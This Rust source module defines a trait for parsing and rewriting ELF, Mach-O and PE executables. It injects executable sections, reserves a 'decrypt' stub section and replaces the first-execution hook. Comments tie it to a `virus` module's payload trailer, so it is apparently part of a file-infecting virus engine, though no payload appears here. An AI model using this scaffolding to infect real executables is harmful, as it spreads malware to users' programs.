//! Binary Editor (spec components C6–C9): parses, mutates, and rewrites
//! ELF / Mach-O / PE executables.
//!
//! Grounded on `include/poly/binary_editor.hpp`'s `BinaryEditor<Real>`
//! CRTP interface. Per the REDESIGN FLAGS in spec.md §9 ("replace [CRTP]
//! with a trait/interface `BinaryEditor` implemented by three distinct
//! types"), this is an ordinary trait with one implementation per format;
//! `OsBinaryEditor` is the compile-time alias a consumer picks via `cfg`.

#[cfg(feature = "elf")]
pub mod elf;
#[cfg(feature = "mach")]
pub mod mach;
#[cfg(feature = "pe")]
pub mod pe;

use crate::error::EditorError;
use crate::host::{Address, PAGE_SIZE};

/// Format-specific new-section name prefix (spec.md §6 "Section naming"):
/// `.` on ELF/PE, `__` on Mach-O.
pub trait SectionPrefix {
    const PREFIX: &'static str;
}

/// The logical name the engine reserves for the stub section
/// (spec.md §6: "The engine reserves the logical name `decrypt`").
pub const STUB_SECTION_LOGICAL_NAME: &str = "decrypt";

/// Public contract common to all three formats (spec.md §4.1).
pub trait BinaryEditor: Sized {
    /// Parses `data` (a full copy of the executable's bytes).
    /// `path_hint` is used only for formats that otherwise have no
    /// meaningful default write destination (PE, see `save_changes`).
    fn build(data: Vec<u8>, path_hint: &str) -> Result<Self, EditorError>;

    /// Virtual address of the first instruction the loader actually
    /// executes: plain entry point, unless a TLS callback (PE) or
    /// `__mod_init_func` entry (Mach-O) precedes it.
    fn first_execution_va(&self) -> Address;

    /// Replaces the first-execution hook, returning its previous value.
    fn exec_first(&mut self, va: Address) -> Address;

    fn text_section_va(&self) -> Address;
    fn text_section_size(&self) -> u64;
    fn text_section_content(&self) -> &[u8];

    /// Runtime address of the text section of the process currently
    /// running this code, computed from an externally supplied return
    /// address `entry_point_ra` as described in spec.md §4.1. Only
    /// meaningful when this editor is parsing the binary that is running.
    fn text_section_ra(&self, entry_point_ra: Address) -> Address;

    /// Adds a new section named `{Self::PREFIX}{name}` with executable +
    /// readable flags. Fails with `SectionAlreadyExists` on name
    /// collision (spec.md §4.1).
    fn inject_section(&mut self, name: &str, content: &[u8]) -> Result<(), EditorError>;

    /// Replaces a named section's bytes, growing the backing
    /// segment/file layout per format-specific rules if the new content
    /// is larger than the section's current size.
    fn update_content(&mut self, name: &str, content: &[u8]) -> Result<(), EditorError>;

    fn update_text_section_content(&mut self, content: &[u8]) -> Result<(), EditorError> {
        let text_name = self.text_section_name().to_string();
        self.update_content(&text_name, content)
    }

    fn text_section_name(&self) -> &str;

    /// VA of `section_start + offset`.
    fn calculate_va(&self, name: &str, offset: u64) -> Result<Address, EditorError>;

    /// Writes the modified image to `path`. Returns whether trailing
    /// bytes appended past the formal end of the image survive
    /// (PE: yes, Mach-O: no, ELF: yes) — this drives where
    /// [`crate::virus`] places its payload trailer.
    fn save_changes(&self, path: &str) -> Result<bool, EditorError>;

    /// Rounds `va` down to a 4 KiB boundary, growing `len` so the aligned
    /// range still covers `[va, va+len)`.
    fn align_to_page_size(va: Address, len: u64) -> (Address, u64) {
        crate::host::align_to_page_size(va, len)
    }
}

/// One section as the editor tracks it: enough to answer every query in
/// [`BinaryEditor`] and to re-serialize on `save_changes`.
#[derive(Debug, Clone)]
pub struct Section {
    pub name: String,
    pub va: Address,
    pub file_offset: u64,
    pub size: u64,
    pub executable: bool,
    pub writable: bool,
    pub content: Vec<u8>,
}

pub(crate) fn page_align_up(n: u64) -> u64 {
    n.div_ceil(PAGE_SIZE) * PAGE_SIZE
}
